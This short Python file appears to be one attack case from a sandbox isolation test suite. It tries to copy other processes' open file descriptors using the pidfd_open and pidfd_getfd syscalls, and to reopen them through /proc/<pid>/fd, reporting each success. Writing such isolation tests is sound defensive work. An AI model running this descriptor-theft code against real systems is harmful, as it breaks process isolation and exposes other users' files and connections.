"""Takes copies of another process's descriptors, from its handle and from its folder.

ids: 65
effect: reached
defence: No descriptor, memory or setting of another process can be opened, whoever started it.
"""

import contextlib
import ctypes
import os

OPEN, TAKE = 434, 438  # pidfd_open, pidfd_getfd: the same on every machine


def attack(world):
    libc = ctypes.CDLL(None)
    for folder in world.others() if not world.calls else []:
        pid = int(folder.rpartition("/")[2])
        handle = libc.syscall(OPEN, pid, 0)
        for number in range(16) if handle >= 0 else ():
            if libc.syscall(TAKE, handle, number, 0) >= 0:
                world.tell(f"descriptor {number} of process {pid}")
        for number in range(16):
            with contextlib.suppress(OSError):
                os.close(os.open(f"{folder}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK))
                world.tell(f"descriptor {number} of process {pid}, opened again")
